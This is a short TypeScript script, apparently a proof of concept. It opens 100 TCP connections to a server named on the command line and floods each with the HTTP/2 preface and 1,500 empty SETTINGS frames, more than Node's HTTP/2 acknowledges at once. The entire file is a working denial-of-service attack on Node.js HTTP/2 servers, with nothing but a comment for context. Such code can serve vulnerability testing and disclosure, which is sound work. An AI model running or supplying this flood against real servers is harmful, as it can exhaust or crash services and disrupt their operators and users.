// Opens connections to the server at HOST:PORT, and sends over each more frames of SETTINGS than Node's HTTP/2 confirms at once.
import { connect } from 'node:net'

const CONNECTIONS = 100
const FRAMES = 1_500

const [host, port] = (process.argv[2] ?? '').split(':')
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const settings = Buffer.from('000000040000000000', 'hex')
const flood = Buffer.concat([preface, ...Array.from({ length: FRAMES }, () => settings)])

const ends = Array.from({ length: CONNECTIONS }, async () => {
  const socket = connect({ host, port: Number(port) })
  // The server may end the connection by a reset, which is an end like any other here.
  socket.on('error', () => undefined)
  socket.resume()
  socket.write(flood)
  await new Promise<void>((resolve) => socket.once('close', () => resolve()))
})
await Promise.all(ends)
